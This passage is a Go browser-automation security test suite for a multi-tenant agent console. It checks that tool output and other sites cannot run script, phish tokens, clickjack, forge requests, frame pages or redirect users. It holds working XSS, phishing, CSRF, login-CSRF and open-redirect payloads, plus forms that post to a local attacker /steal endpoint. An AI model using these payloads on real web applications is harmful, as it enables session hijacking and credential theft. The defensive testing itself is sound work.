	// The attacker's server, on another port: as 127.0.0.1 it is the same
	// site as the console (its cookie goes along), as localhost another site.
	var mu sync.Mutex
	var hits []string
	var attackPage string
	evilSrv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		r.ParseForm()
		mu.Lock()
		hits = append(hits, r.Method+" "+r.URL.Path+" "+r.Form.Encode())
		p := attackPage
		mu.Unlock()
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		if r.URL.Path == "/attack" {
			io.WriteString(w, p)
			return
		}
		io.WriteString(w, "<title>attacker</title>attacker's page")
	}))
	defer evilSrv.Close()
	eu, _ := url.Parse(evilSrv.URL)
	evilPort := eu.Port()
	hit := func(path string) string {
		mu.Lock()
		defer mu.Unlock()
		for _, h := range hits {
			if strings.HasPrefix(h, "GET "+path) || strings.HasPrefix(h, "POST "+path) {
				return h
			}
		}
		return ""
	}
	setAttack := func(html string) {
		mu.Lock()
		attackPage = html
		mu.Unlock()
	}

	// Tenant A: the MCP group and agent as a victim, and a hostile group.
	putMCPGroup(t, srv, token)
	ev := atkEvil{group: "Evil " + atkP("group") + ` "'`, agent: "Agent " + atkP("agent")}
	htmlFile := `<!doctype html><title>blob</title><script>document.title='ran-script'</script><img src=x onerror="document.title='ran-onerror'"><form action="http://127.0.0.1:` + evilPort + `/steal"><input name=token></form>`
	overlay := func(target, body string) string {
		name, value, _ := strings.Cut(body, "=")
		return `<form method="post" action="` + target + `" enctype="text/plain"><input type="hidden" name='` + name + `' value='` + value + `'>` +
			`<button type="submit" style="position:fixed;left:0;top:0;width:100vw;height:100vh;opacity:0.01;z-index:2147483647;margin:0;border:0">.</button></form>`
	}
	startOverlay := overlay("/playground/start", `{"agent":"Helper","variables":{"Name":"planted"},"x":"=x"}`)
	mdPayload := "# " + atkP("mdhead") + "\n\n" + atkP("md") + atkS("md") +
		"\n\n[link](javascript:window.__pwned='mdlink') [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) <a href=\"javascript:window.__pwned='ahref'\">a</a> <a href=\"JaVaScRiPt&colon;window.__pwned='ahref2'\">b</a>" +
		"\n\n<iframe srcdoc=\"<script>parent.__pwned='srcdoc'</script>\"></iframe><object data=\"javascript:window.__pwned='object'\"></object><embed src=\"javascript:window.__pwned='embed'\">" +
		"\n\n<svg><a xlink:href=\"javascript:window.__pwned='svg'\"><text y=\"20\">svg</text></a><animate onbegin=\"window.__pwned='animate'\" attributeName=\"x\" dur=\"1s\"/></svg>" +
		"\n\n<math><mtext><table><mglyph><style><img src=x onerror=\"window.__pwned='mxss'\">" +
		"\n\n<details open ontoggle=\"window.__pwned='toggle'\">d</details><base href=\"http://127.0.0.1:" + evilPort + "/\"><meta http-equiv=\"refresh\" content=\"0;url=/logout\">\n"
	blocks := atkVisual(
		atkText(mdPayload),
		map[string]any{"type": "table", "title": atkP("ttitle"), "options": map[string]any{"searchable": true},
			"columns": []any{map[string]any{"key": "k", "title": atkP("ctitle")}, map[string]any{"key": atkP("ckey")}},
			"rows":    []any{map[string]any{"k": atkP("cell") + atkS("cell"), atkP("ckey"): atkP("cell2")}}},
		map[string]any{"type": "chart", "spec": map[string]any{"type": "bar", "title": atkP("chtitle"), "labels": []any{atkP("label")},
			"series": []any{map[string]any{"name": atkP("series"), "values": []any{1}}}}},
		map[string]any{"type": "file", "name": atkP("fname") + ".html", "mime": "text/html", "data": base64.StdEncoding.EncodeToString([]byte(htmlFile))},
		map[string]any{"type": "map", "center": map[string]any{"lat": 1, "lon": 1}, "zoom": 3, "title": atkP("mtitle"),
			"markers":  []any{map[string]any{"lat": 1, "lon": 1, "label": atkP("marker")}},
			"tile_url": "/no-tiles/{z}/{x}/{y}.png", "attribution": atkP("attr") + `<a href="javascript:window.__pwned='attrlink'">x</a>`,
			"link": "javascript:window.__pwned='maplink'"},
	)
	desc := atkP("tdesc") + atkS("tdesc")
	skills := "skills:\n  - {kind: Skill, name: " + atkJSON("Init") + ", description: " + atkJSON(atkP("sdesc")) + ", implementation: evil.Init, session_init_call: true, inputs: [{name: Name, description: " + atkJSON(atkP("sinput")) + ", dtype: str}]}\n"
	yaml, py := atkGroup(ev.group, atkP("gdesc")+atkS("gdesc"), "evil", []atkTool{
		{name: "Blocks", description: desc, pyParams: "q=None", params: `[{name: q, type: str, description: ` + atkJSON(atkP("param")) + `, optional: true}]`,
			result: blocks, printed: atkP("printed")},
		{name: "Fail", description: desc, raise: atkP("error") + atkS("error"), printed: atkP("failprinted")},
		{name: "Overlay", description: "a form over the page", result: atkVisual(atkText(startOverlay))},
		{name: "AttrOverlay", description: "a form in a map's attribution", result: atkVisual(map[string]any{"type": "map", "center": map[string]any{"lat": 1, "lon": 1},
			"tile_url": "/no-tiles/{z}/{x}/{y}.png", "attribution": overlay("/playground/start", `{"agent":"Helper","variables":{"Name":"attr"},"x":"=x"}`)})},
		{name: "SignOut", description: "an image", result: atkVisual(atkText("![pic](/logout)"))},
		{name: "Phish", description: "a sign-in form", result: atkVisual(atkText(`<form method="post" action="http://127.0.0.1:` + evilPort + `/steal"><p>Your sign-in expired. Token: <input id="phish-token" name="token"> <button id="phish-go">Sign in</button></p></form>`))},
		{name: "Restyle", description: "a style sheet", result: atkVisual(atkText("Report\n\n<style>main{display:none}</style>\n\n<p style=\"position:fixed;inset:0;background:#fff;z-index:9999\" id=\"restyled\">Session expired</p>"))},
	}, skills)
	py += "def Init(Name):\n    return {\"Greeting\": " + strconv.Quote(atkP("greeting")) + "}\n"
	agentYAML := "kind: Agent\nname: " + atkJSON(ev.agent) + "\ninstructions: " + atkJSON(atkP("instructions")+" __Name__ __Greeting__") +
		"\ntool_groups: [" + atkJSON(ev.group) + "]\nstates:\n" +
		"  - {kind: StateConfig, name: " + atkJSON("One "+atkP("state")) + ", init_state: true, available_tools: [Blocks, Fail, SendChatMessage, ReportUnansweredQuestion]}\n" +
		"  - {kind: StateConfig, name: Two, final_state: true, available_tools: [FinishSession]}\n"
	atkPut(t, srv, token, "evil", yaml, py)
	apiJSON(t, srv, token, "POST", "/v1/agents", agentYAML)
	ev.session = atkSession(t, srv, token, ev.agent, map[string]any{"Name": atkP("varname"), atkP("varkey"): atkP("varval")})
	base := "/v1/sessions/" + ev.session
	apiJSON(t, srv, token, "POST", base+"/calls", `{"tool":"Blocks","arguments":{"q":`+atkJSON(atkP("arg"))+`}}`)
	apiJSON(t, srv, token, "POST", base+"/calls", `{"tool":"Fail","arguments":{}}`)
	apiJSON(t, srv, token, "POST", base+"/calls", atkJSON(map[string]any{"tool": "SendChatMessage", "arguments": map[string]any{"message": atkP("message") + atkS("message")}}))
	apiJSON(t, srv, token, "POST", base+"/calls", atkJSON(map[string]any{"tool": "ReportUnansweredQuestion", "arguments": map[string]any{"question": atkP("question")}}))
	apiJSON(t, srv, token, "POST", base+"/traces", atkJSON(map[string]any{"prompt": atkP("prompt"), "generation": atkP("generation"), "action": atkP("action"), "action_input": map[string]any{atkP("aikey"): atkP("aival")}}))
	apiJSON(t, srv, token, "PUT", "/v1/files/"+url.PathEscape("data "+atkP("path")+".txt"), "x")
	apiJSON(t, srv, token, "PUT", "/v1/knowledge/"+url.PathEscape("doc "+atkP("kname")), atkP("ktext")+atkS("ktext"))
	apiJSON(t, srv, token, "POST", "/v1/agents", atkAsker)
	tid := atkTenant(t, db, token)
	victim := atkSession(t, srv, token, "Asker", map[string]any{"Name": "Victim"})
	apiJSON(t, srv, token, "POST", "/v1/sessions/"+victim+"/calls", `{"tool":"ReportUnansweredQuestion","arguments":{"question":"victim question"}}`)
	question := atkUnanswered(t, srv, token)
	_, mallory, _ := db.CreateTenant(ctx0, "mallory")

	ctx := browser.NewTimeout(t, 3*time.Minute)
	do(t, ctx, chromedp.EmulateViewport(1280, 900))
	signInBrowser := func() {
		t.Helper()
		do(t, ctx, chromedp.Navigate(srv.URL+"/login"))
		until(t, ctx, "the sign-in page", `!!document.querySelector('#token')`)
		do(t, ctx, chromedp.SendKeys(chromedp.CSS("#token"), token), chromedp.Submit(chromedp.CSS("#token")))
		until(t, ctx, "the Tools screen", `location.pathname === '/tools' && !!document.querySelector('.tenant')`)
	}
	signedIn := func() bool {
		t.Helper()
		// The console's pages need the cookie; a signed-out browser is sent to
		// the sign-in page.
		return eval[bool](t, ctx, `fetch('/tools', {redirect: 'manual', credentials: 'same-origin'}).then(r => r.status === 200)`)
	}
	// onConsole makes sure the tab is a console page of the signed-in
	// tenant A.
	onConsole := func() {
		t.Helper()
		do(t, ctx, chromedp.Navigate(srv.URL+"/tools"))
		if eval[string](t, ctx, `location.pathname`) != "/tools" || eval[string](t, ctx, `document.querySelector('.tenant')?.textContent || ''`) != "t" {
			signInBrowser()
		}
	}
	sessionCount := func() int {
		ss, _ := db.Sessions(ctx0, tid, "", 0)
		return len(ss)
	}
	runTool := func(tool, ready string) {
		t.Helper()
		do(t, ctx, chromedp.Navigate(srv.URL+"/playground?group="+url.QueryEscape(ev.group)+"&tool="+tool))
		until(t, ctx, tool+"'s form", `!!document.querySelector('#pg-tool button[type=submit]')`)
		do(t, ctx, chromedp.Click(chromedp.CSS(`#pg-tool button[type=submit]`)))
		until(t, ctx, tool+"'s answer", ready)
	}
	signInBrowser()

	t.Run("markup from definitions and tool output stays text", func(t *testing.T) {
		type visit struct {
			path, ready string
			shows       []string // fields whose text must be on the page (the check is not vacuous)
		}
		g := url.QueryEscape(ev.group)
		visits := []visit{
			{"/tools", `!!document.querySelector('table.groups')`, []string{"group", "gdesc"}},
			{"/tools/" + url.PathEscape(ev.group), `!!document.querySelector('.tool-card')`, []string{"group", "gdesc", "tdesc", "sdesc", "sinput"}},
			{"/resources", `!!document.querySelector('table.files')`, []string{"path", "group"}},
			{"/sessions", `!!document.querySelector('table.sessions')`, []string{"agent", "state", "question"}},
			{"/sessions/" + ev.session, `!!document.querySelector('ol.timeline')`, []string{"agent", "state", "varkey", "varval", "message", "printed", "error", "prompt", "generation", "aikey", "arg"}},
			{"/sessions/" + ev.session + "?log=trace", `!!document.querySelector('ol.timeline')`, []string{"action"}},
			{"/knowledge", `!!document.querySelector('table.docs')`, []string{"kname"}},
			{"/knowledge/" + url.PathEscape("doc "+atkP("kname")), `!!document.querySelector('pre.doc')`, []string{"kname", "ktext"}},
			{"/playground", `!!document.querySelector('.pg-pick')`, []string{"group", "agent"}},
			{"/playground?agent=" + url.QueryEscape(ev.agent), `!!document.querySelector('#pg-start')`, []string{"agent", "sinput"}},
			{"/playground?group=" + g + "&tool=Blocks", `!!document.querySelector('#pg-tool .fields')`, []string{"tdesc", "param"}},
			{"/playground?session=" + ev.session, `!!document.querySelector('.s-tools button') && document.querySelectorAll('.s-messages li').length > 0`, []string{"instructions", "state", "message", "varname", "greeting"}},
			// Reflected: every query parameter a page reads.
			{"/login?next=" + url.QueryEscape("/"+atkP("next")), `!!document.querySelector('#token')`, nil},
			{"/playground?group=" + url.QueryEscape(atkP("rgroup")) + "&tool=" + url.QueryEscape(atkP("rtool")), `!!document.querySelector('.error')`, []string{"rgroup", "rtool"}},
			{"/playground?agent=" + url.QueryEscape(atkP("ragent")), `!!document.querySelector('.error')`, []string{"ragent"}},
			{"/playground?session=" + url.QueryEscape(atkP("rsession")), `!!document.querySelector('.error')`, []string{"rsession"}},
			{"/sessions?agent=" + url.QueryEscape(atkP("rfilter")), `!!document.querySelector('h1')`, []string{"rfilter"}},
			{"/sessions/" + url.PathEscape(atkP("rsid")), `!!document.querySelector('.error')`, []string{"rsid"}},
			{"/knowledge?stored=" + url.QueryEscape(atkP("rstored")) + "&deleted=" + url.QueryEscape(atkP("rdeleted")), `!!document.querySelector('.ok')`, []string{"rstored", "rdeleted"}},
			{"/knowledge/" + url.PathEscape(atkP("rdoc")), `!!document.querySelector('.error')`, []string{"rdoc"}},
			{"/tools/" + url.PathEscape(atkP("rtoolpage")), `!!document.querySelector('.error')`, []string{"rtoolpage"}},
			{"/resources/" + url.PathEscape(atkP("rfile")), `!!document.querySelector('.error')`, []string{"rfile"}},
		}
		for _, v := range visits {
			if strings.HasPrefix(v.path, "/login") {
				do(t, ctx, chromedp.Navigate(srv.URL+v.path))
			} else {
				onConsole()
				do(t, ctx, chromedp.Navigate(srv.URL+v.path))
			}
			until(t, ctx, v.path, v.ready)
			if bad := eval[[]string](t, ctx, atkDOMCheck); len(bad) > 0 {
				t.Errorf("%s: markup became live: %q", v.path, bad)
			}
			html := eval[string](t, ctx, `document.documentElement.outerHTML`)
			for _, f := range v.shows {
				if !strings.Contains(html, "window.__pwned='"+f+"'") {
					t.Errorf("%s does not show the field %s at all (the check would be vacuous)", v.path, f)
				}
			}
		}
		// The same pages over HTTP: no payload reaches the page as markup.
		c := atkSignInClient(t, srv, token)
		for _, v := range visits {
			r := atkSend(t, c, "GET", srv.URL+v.path, "", "", nil)
			if strings.Contains(r.body, "<img src=x onerror") || strings.Contains(r.body, "<script>window.__pwned") {
				t.Errorf("GET %s carries a payload as markup", v.path)
			}
		}
		// A broken definition's check page: its lines and diagnostics.
		onConsole()
		bad := strings.Replace(yaml, "type: str", "type: "+atkJSON("str"+atkP("diag")), 1) + "# " + atkP("line") + "\n"
		js(t, ctx, `document.querySelector('#def-text').value = `+atkJSON(bad))
		do(t, ctx, chromedp.Click(chromedp.CSS(`form[action="/tools"] button[type=submit]`)))
		until(t, ctx, "the check", `!!document.querySelector('ol.source')`)
		if bad := eval[[]string](t, ctx, atkDOMCheck); len(bad) > 0 {
			t.Errorf("the check page: markup became live: %q", bad)
		}
		if html := eval[string](t, ctx, `document.documentElement.outerHTML`); !strings.Contains(html, "window.__pwned='diag'") || !strings.Contains(html, "window.__pwned='line'") {
			t.Error("the check page does not show the definition's payloads")
		}
	})

	t.Run("visual blocks and failures stay data", func(t *testing.T) {
		onConsole()
		runTool("Blocks", `document.querySelectorAll('#pg-answer [data-block-type]').length === 5 && !!document.querySelector('#pg-answer .leaflet-control-attribution')`)
		do(t, ctx, chromedp.Sleep(300*time.Millisecond))
		if bad := eval[[]string](t, ctx, atkDOMCheck); len(bad) > 0 {
			t.Errorf("the blocks: markup became live: %q", bad)
		}
		html := eval[string](t, ctx, `document.querySelector('#pg-answer').outerHTML`)
		for _, f := range []string{"ttitle", "ctitle", "ckey", "cell", "cell2", "chtitle", "label", "series", "fname", "mtitle", "marker", "printed"} {
			if !strings.Contains(html, "window.__pwned='"+f+"'") {
				t.Errorf("the answer does not show %s", f)
			}
		}
		if n := eval[int](t, ctx, `document.querySelectorAll('#pg-answer .tb-markdown style, #pg-answer .tb-markdown form, #pg-answer .tb-markdown input, #pg-answer .tb-markdown button').length`); n > 0 {
			t.Errorf("the markdown keeps %d style or form elements", n)
		}
		// A failure: its message, traceback and printed output.
		runTool("Fail", `!!document.querySelector('#pg-answer .failure')`)
		js(t, ctx, `document.querySelectorAll('#pg-answer details').forEach(d => d.open = true)`)
		if bad := eval[[]string](t, ctx, atkDOMCheck); len(bad) > 0 {
			t.Errorf("the failure: markup became live: %q", bad)
		}
		if html := eval[string](t, ctx, `document.querySelector('#pg-answer').outerHTML`); !strings.Contains(html, "window.__pwned='error'") || !strings.Contains(html, "window.__pwned='failprinted'") {
			t.Errorf("the failure is not shown: %.500s", html)
		}
	})

	t.Run("a file block's HTML does not open in the console's origin", func(t *testing.T) {
		onConsole()
		runTool("Blocks", `!!document.querySelector('#pg-answer [data-block-type=file] a[download]')`)
		href := eval[string](t, ctx, `document.querySelector('#pg-answer [data-block-type=file] a[download]').href`)
		// What "Open link in new tab" does with the download link.
		js(t, ctx, `location.href = `+atkJSON(href))
		do(t, ctx, chromedp.Sleep(800*time.Millisecond))
		got := eval[map[string]string](t, ctx, `({url: location.href, type: document.contentType, title: document.title, forms: String(document.forms.length)})`)
		if strings.HasPrefix(got["title"], "ran") {
			t.Errorf("the file's script ran in the console's origin: %v", got)
		}
		if strings.HasPrefix(got["url"], "blob:"+srv.URL) && slices.Contains([]string{"text/html", "image/svg+xml", "application/xhtml+xml", "text/xml", "application/xml"}, got["type"]) {
			t.Errorf("a tool's %s file renders as a document of the console's origin (%s): its forms and links pose as the console", got["type"], got["url"])
		}
	})

	t.Run("one click on tool output does not act as the user", func(t *testing.T) {
		for _, tool := range []string{"Overlay", "AttrOverlay"} {
			onConsole()
			n := sessionCount()
			runTool(tool, `!!document.querySelector('#pg-answer .blocks [data-block-type]')`)
			if tool == "AttrOverlay" {
				until(t, ctx, "the map", `!!document.querySelector('#pg-answer .leaflet-control-attribution')`)
			}
			// The user clicks the page's heading.
			do(t, ctx, chromedp.MouseClickXY(60, 110), chromedp.Sleep(1500*time.Millisecond))
			if m := sessionCount(); m != n {
				t.Errorf("%s: a click on the page after a tool's answer started a session as the user (%d → %d; now at %s)", tool, n, m, eval[string](t, ctx, `location.pathname`))
			}
		}
	})

	t.Run("tool output cannot restyle the console", func(t *testing.T) {
		onConsole()
		runTool("Restyle", `!!document.querySelector('#pg-answer .blocks [data-block-type=text]')`)
		got := eval[map[string]string](t, ctx, `({main: getComputedStyle(document.querySelector('main')).display, cover: (() => {
			const e = document.elementFromPoint(640, 300);
			return e && getComputedStyle(e).position === 'fixed' ? e.id || e.tagName : ''; })()})`)
		if got["main"] == "none" || got["cover"] != "" {
			t.Errorf("a tool's markdown restyles the whole console (main display %q, the element at the centre %q)", got["main"], got["cover"])
		}
	})

	t.Run("tool output cannot send the user's typing elsewhere", func(t *testing.T) {
		onConsole()
		runTool("Phish", `!!document.querySelector('#pg-answer .blocks [data-block-type=text]')`)
		if eval[bool](t, ctx, `!!document.querySelector('#phish-token')`) {
			do(t, ctx, chromedp.SendKeys(chromedp.CSS("#phish-token"), "typed-token"), chromedp.Click(chromedp.CSS("#phish-go")), chromedp.Sleep(time.Second))
		}
		if h := hit("/steal"); h != "" {
			t.Errorf("a form in a tool's markdown posted what the user typed to another site: %s", h)
		}
	})

	t.Run("tool output cannot sign the user out", func(t *testing.T) {
		onConsole()
		runTool("SignOut", `!!document.querySelector('#pg-answer .blocks img')`)
		do(t, ctx, chromedp.Sleep(500*time.Millisecond))
		if !signedIn() {
			t.Error("an image in a tool's markdown (![](/logout)) signed the user out")
		}
	})

	t.Run("another site cannot change anything", func(t *testing.T) {
		stateOf := func() string {
			var b strings.Builder
			for _, p := range []string{"/v1/groups/MCP%20Tools", "/v1/groups/Planted", "/v1/files/mcptools.py", "/v1/knowledge/planted", "/v1/knowledge/" + url.PathEscape("doc "+atkP("kname"))} {
				resp, _ := request(t, srv, token, "GET", p, "")
				fmt.Fprintf(&b, "%s %d\n", p, resp.StatusCode)
			}
			s, _ := db.Session(ctx0, tid, victim)
			us, _ := db.UnansweredQuestions(ctx0, tid, 0)
			fmt.Fprintf(&b, "victim %s %v, sessions %d, unanswered %d\n", s.State, s.Closed, sessionCount(), len(us))
			return b.String()
		}
		planted := "kind: Plugin\nname: Planted\ndescription: p\ndependencies: [mcptools.py]\ntools:\n  - {kind: Tool, object_name: P, name: p, description: p, implementation: mcptools.echo, parameters: [{name: text, type: str, description: t}]}\n"
		target := func(i int) string { return fmt.Sprintf("f%d", i) }
		var forms strings.Builder
		type post struct {
			action, enctype string
			fields          [][2]string
		}
		posts := []post{
			{"/tools/MCP%20Tools", "", [][2]string{{"action", "delete"}}},
			{"/tools", "multipart/form-data", [][2]string{{"action", "store"}, {"yaml", planted}}},
			{"/resources/mcptools.py", "", [][2]string{{"action", "delete"}}},
			{"/knowledge", "multipart/form-data", [][2]string{{"name", "planted"}, {"text", "planted"}}},
			{"/knowledge/" + url.PathEscape("doc "+atkP("kname")), "", [][2]string{{"action", "delete"}}},
			{"/unanswered/" + strconv.FormatInt(question, 10), "", [][2]string{{"action", "delete"}}},
			{"/playground/start", "text/plain", [][2]string{{`{"agent":"Helper","variables":{"Name":"csrf"},"x":"`, `"}`}}},
			{"/playground/finish", "text/plain", [][2]string{{`{"session":"` + victim + `","x":"`, `"}`}}},
			{"/playground/state", "text/plain", [][2]string{{`{"session":"` + victim + `","state":"Reporting","x":"`, `"}`}}},
		}
		for i, p := range posts {
			fmt.Fprintf(&forms, `<iframe name="%s"></iframe><form target="%s" method="post" action="%s%s"`, target(i), target(i), srv.URL, p.action)
			if p.enctype != "" {
				fmt.Fprintf(&forms, ` enctype="%s"`, p.enctype)
			}
			forms.WriteString(">")
			for _, f := range p.fields {
				fmt.Fprintf(&forms, `<textarea name="%s">%s</textarea>`, strings.ReplaceAll(f[0], `"`, "&quot;"), strings.ReplaceAll(f[1], "<", "&lt;"))
			}
			forms.WriteString("</form>")
		}
		forms.WriteString(`<script>for (const f of document.forms) f.submit();
			fetch(` + atkJSON(srv.URL+"/playground/start") + `, {method: 'POST', mode: 'no-cors', credentials: 'include', headers: {'Content-Type': 'text/plain'}, body: '{"agent":"Helper","variables":{"Name":"fetch"}}'});
			document.title = 'sent';</script>`)
		before := stateOf()
		for _, h := range []string{"127.0.0.1", "localhost"} {
			onConsole()
			setAttack(forms.String())
			do(t, ctx, chromedp.Navigate("http://"+h+":"+evilPort+"/attack"))
			until(t, ctx, "the attack page", `document.title === 'sent'`)
			do(t, ctx, chromedp.Sleep(time.Second))
			if after := stateOf(); after != before {
				t.Errorf("a page of %s changed the tenant's data:\nbefore:\n%s\nafter:\n%s", h, before, after)
			}
		}
		// Signing the user in as another tenant (to collect what they upload).
		for _, h := range []string{"127.0.0.1", "localhost"} {
			onConsole()
			setAttack(`<form method="post" action="` + srv.URL + `/login"><input name="token" value="` + mallory + `"></form><script>document.forms[0].submit()</script>`)
			do(t, ctx, chromedp.Navigate("http://"+h+":"+evilPort+"/attack"), chromedp.Sleep(1500*time.Millisecond))
			do(t, ctx, chromedp.Navigate(srv.URL+"/tools"))
			if who := eval[string](t, ctx, `document.querySelector('.tenant')?.textContent || ''`); who == "mallory" {
				t.Errorf("a page of %s signed the browser in as another tenant", h)
			}
		}
	})

	t.Run("another site cannot sign the user out", func(t *testing.T) {
		for _, h := range []string{"127.0.0.1", "localhost"} {
			for _, attack := range []struct{ name, html string }{
				{"a link", `<script>location = ` + atkJSON(srv.URL+"/logout") + `</script>`},
				{"a form", `<form method="post" action="` + srv.URL + `/logout"></form><script>document.forms[0].submit()</script>`},
				{"an image", `<img src="` + srv.URL + `/logout"><script>setTimeout(() => document.title = 'done', 500)</script>`},
			} {
				onConsole()
				setAttack(attack.html)
				do(t, ctx, chromedp.Navigate("http://"+h+":"+evilPort+"/attack"), chromedp.Sleep(700*time.Millisecond))
				do(t, ctx, chromedp.Navigate(srv.URL+"/tools"))
				if eval[string](t, ctx, `location.pathname`) != "/tools" {
					t.Errorf("%s on a page of %s signed the user out", attack.name, h)
				}
			}
		}
	})

	t.Run("another site cannot frame the console", func(t *testing.T) {
		onConsole()
		paths := []string{"/login", "/tools", "/playground?group=" + url.QueryEscape(ev.group) + "&tool=Overlay", "/sessions", "/tools/nope"}
		var page strings.Builder
		for i, p := range paths {
			fmt.Fprintf(&page, `<iframe name="fr%d" src="%s%s"></iframe>`, i, srv.URL, p)
		}
		setAttack(page.String())
		// Same site (one renderer process): the frame tree shows each frame.
		do(t, ctx, chromedp.Navigate("http://127.0.0.1:"+evilPort+"/attack"), chromedp.Sleep(1500*time.Millisecond))
		tree, err := chromedp.Call(ctx, cdppage.GetFrameTree, cdp.Empty{})
		if err != nil {
			t.Fatal(err)
		}
		if len(tree.FrameTree.ChildFrames) != len(paths) {
			t.Fatalf("%d frames, want %d", len(tree.FrameTree.ChildFrames), len(paths))
		}
		for _, f := range tree.FrameTree.ChildFrames {
			if !strings.HasPrefix(f.Frame.URL, "chrome-error:") {
				t.Errorf("another site frames %s (clickjacking)", f.Frame.URL)
			}
		}
	})

	t.Run("sign-in does not send the user to another site", func(t *testing.T) {
		for i, next := range []string{`/\localhost:` + evilPort + `/landed1`, "/\t/localhost:" + evilPort + "/landed2", "//localhost:" + evilPort + "/landed3"} {
			do(t, ctx, chromedp.Navigate(srv.URL+"/login?next="+url.QueryEscape(next)))
			until(t, ctx, "the sign-in page", `!!document.querySelector('#token')`)
			do(t, ctx, chromedp.SendKeys(chromedp.CSS("#token"), token), chromedp.Submit(chromedp.CSS("#token")), chromedp.Sleep(700*time.Millisecond))
			if h := hit(fmt.Sprintf("/landed%d", i+1)); h != "" || !strings.HasPrefix(eval[string](t, ctx, `location.href`), srv.URL) {
				t.Errorf("signing in at /login?next=%q took the browser to %s", next, eval[string](t, ctx, `location.href`))
			}
		}
	})
}

// TestConsoleLiveStreamsBounded: a tenant's open live lists (GET
// /tools?format=events) are bounded, so that one tenant cannot make each
// change of its groups cost the node thousands of reads or hold thousands
// of connections; past the bound a stream is refused with 429, another
// tenant's streams are not counted against it, and a closed stream frees
// its place.
func TestConsoleLiveStreamsBounded(t *testing.T) {
	srv, _, c, db := consoleServer(t)
	_, other, _ := db.CreateTenant(context.Background(), "other")
	c2 := signIn(t, srv, other)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	open := func(c *http.Client) (*http.Response, context.CancelFunc) {
		t.Helper()
		sctx, stop := context.WithCancel(ctx)
		req, _ := http.NewRequestWithContext(sctx, "GET", srv.URL+"/tools?format=events", nil)
		req.Header.Set("Accept", "text/event-stream")
		resp, err := c.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		if resp.StatusCode == 200 {
			// The first event says the stream is counted and serving.
			buf := make([]byte, 512)
			var got string
			for !strings.Contains(got, "event: groups") {
				n, err := resp.Body.Read(buf)
				if err != nil {
					t.Fatalf("stream: %v after %q", err, got)
				}
				got += string(buf[:n])
			}
		}
		return resp, stop
	}
	var stops []context.CancelFunc
	for i := range console.LiveStreams {
		resp, stop := open(c)
		if resp.StatusCode != 200 {
			t.Fatalf("stream %d: %d", i+1, resp.StatusCode)
		}
		stops = append(stops, stop)
	}
	resp, _ := open(c)
	if resp.StatusCode != http.StatusTooManyRequests || resp.Header.Get("Retry-After") == "" {
		t.Errorf("stream %d of one tenant: %d (Retry-After %q), want 429 with Retry-After", console.LiveStreams+1, resp.StatusCode, resp.Header.Get("Retry-After"))
	}
	resp.Body.Close()
	if resp, stop := open(c2); resp.StatusCode != 200 {
		t.Errorf("another tenant's stream: %d, want 200", resp.StatusCode)
	} else {
		stop()
	}
	// A stream closed by its browser frees its place.
	stops[0]()
	deadline := time.Now().Add(5 * time.Second)
	for {
		resp, stop := open(c)
		if resp.StatusCode == 200 {
			stop()
			break
		}
		resp.Body.Close()
		if time.Now().After(deadline) {
			t.Fatalf("a closed stream's place was not freed: %d", resp.StatusCode)
		}
		time.Sleep(50 * time.Millisecond)
	}
	for _, stop := range stops[1:] {
		stop()
	}
}
